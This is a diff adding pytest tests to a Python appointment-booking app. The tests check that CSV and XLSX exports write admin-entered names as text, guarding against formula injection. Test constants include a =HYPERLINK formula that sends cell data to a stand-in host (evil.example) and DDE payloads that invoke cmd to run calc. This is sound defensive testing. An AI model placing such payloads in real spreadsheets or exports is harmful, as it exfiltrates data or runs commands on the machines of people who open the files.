@@ -330,3 +330,112 @@ def test_the_beat_takes_up_stale_exports_every_minute():
 
     job = beat_schedule()["exports-reclaim"]
     assert job["task"] == "lapins.tasks.reclaim_stale_exports" and job["schedule"] == 60
+
+
+# --- Formula injection: what an administrator types is never computed by a spreadsheet ---------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Motif")'
+DDE = '@SUM(1+1)*cmd|" /C calc"!A0'
+
+
+def xlsx_rows(data: bytes) -> list[list]:
+    """Every cell of the first sheet, checking none is a formula (openpyxl reads a formula as its text, type "f")."""
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def test_a_motif_and_a_lieu_named_as_formulas_reach_the_territorys_spreadsheet_as_text(client, auth, db, paris):
+    """The attack: an organisation's administrator names a motif and a lieu as formulas in the admin forms, then a
+    territory administrator downloads the rdv list."""
+    from lapins.models.territory_admins import TerritoryAdmin
+    from tests.test_admin import post
+
+    auth.login(paris.admin)
+    assert post(client, f"/admin/motifs/{paris.motif.id}/modifier", {
+        "name": HYPERLINK, "duration_minutes": "30", "location_type": "on_site", "color": "#000091",
+        "cancellation_limit_hours": "4", "reminder_offsets": "", "notify": "y", "active": "y"}).status_code == 302
+    assert post(client, f"/admin/lieux/{paris.lieu.id}/modifier",
+                {"name": DDE, "address": "1 rue de Belleville", "phone": "", "active": "y"}).status_code == 302
+    db.session.expire_all()
+    assert (paris.motif.name, paris.lieu.name) == (HYPERLINK, DDE)  # the forms take them: the files must cope
+    auth.logout()
+
+    head = paris.colleague  # now the territory's own administrator, not the organisation's
+    db.session.add(TerritoryAdmin(agent_id=head.id, territory_id=paris.territory.id))
+    db.session.commit()
+    auth.login(head)
+    for file_format in ("csv", "xlsx"):
+        ask_for_rdv_list(client, paris, file_format=file_format, kind="territoire", target_id=paris.territory.id)
+    csv_export, xlsx_export = db.session.scalars(select(Export).order_by(Export.id)).all()
+
+    rows = read_csv(client.get(f"/statistiques/exports/{csv_export.id}/fichier"))
+    seen = next(row for row in rows[1:] if row[5])
+    assert (seen[5], seen[7]) == ("'" + DDE, "'" + HYPERLINK)
+    assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+
+    rows = xlsx_rows(client.get(f"/statistiques/exports/{xlsx_export.id}/fichier").data)
+    seen = next(row for row in rows[1:] if row[5])
+    assert (seen[5], seen[7]) == (DDE, HYPERLINK)  # the text as typed, kept a string
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_written_as_text(paris, db, factories, start):
+    """OWASP's list: the admin forms trim spaces, but a name can also come from an import or the API."""
+    from datetime import date
+
+    from lapins.stats.figures import Filters
+
+    name = f"{start}1+cmd|' /C calc'!A0"
+    paris.motif.name, paris.lieu.name, paris.organisation.name = name, f"{start}lieu", f"{start}PMI"
+    paris.agent.first_name = f"{start}Claire"
+    db.session.commit()
+    files = {}
+    for file_format in ("csv", "xlsx"):
+        export = exports.request_export(paris.agent, paris.territory.id, paris.organisation.id,
+                                        Filters(date(2026, 10, 1), date(2026, 11, 1)), file_format)
+        db.session.commit()
+        exports.run_export(export.id)
+        db.session.expire_all()
+        files[file_format] = export.content
+
+    rows = list(csv.reader(io.StringIO(files["csv"].decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert len(rows) == 11
+    assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    seen = next(row for row in rows[1:] if row[5])
+    assert seen[4:8] == [f"'{start}PMI", f"'{start}lieu", f"'{start}Claire Martin", "'" + name]
+
+    rows = xlsx_rows(files["xlsx"])
+    seen = next(row for row in rows[1:] if row[5])
+    read = start.replace("\r", "\n")  # XML reads a raw carriage return as a line feed: text all the same
+    assert seen[4:8] == [f"{read}PMI", f"{read}lieu", f"{read}Claire Martin", name.replace("\r", "\n")]
+    late = next(row for row in rows[1:] if row[0] == paris.late.id)  # numbers stay numbers
+    assert late[11] == 24
+
+
+def test_a_name_with_control_characters_does_not_break_the_xlsx(paris, db):
+    """openpyxl refuses control characters: one odd name must not fail the whole export."""
+    from datetime import date
+
+    from lapins.stats.figures import Filters
+
+    paris.motif.name = "Pesée\x01\x0b du #N/A"
+    paris.other_motif.name = "#N/A"  # an error code, as a name
+    db.session.commit()
+    export = exports.request_export(paris.agent, paris.territory.id, paris.organisation.id,
+                                    Filters(date(2026, 10, 1), date(2026, 11, 1)), "xlsx")
+    db.session.commit()
+    exports.run_export(export.id)
+    db.session.expire_all()
+    assert export.status == ExportStatus.DONE
+    motifs = {row[7] for row in xlsx_rows(export.content)[1:]}
+    assert motifs == {"Pesée du #N/A", "#N/A"}
+
+
+def test_the_figures_files_write_their_text_cells_as_text():
+    """The monthly figures hold only our labels and numbers; their writer is the same one, tested here directly."""
+    rows = [["=1+1", 2, -3, 4.5, None, "-"]]
+    assert exports.to_csv(["@A", "B"], rows).decode("utf-8-sig").splitlines() == ["'@A;B", "'=1+1;2;-3;4,5;;'-"]
+    assert xlsx_rows(exports.to_xlsx(["@A", "B"], rows, "Statistiques")) == [["@A", "B", None, None, None, None],
+                                                                            ["=1+1", 2, -3, 4.5, None, "-"]]
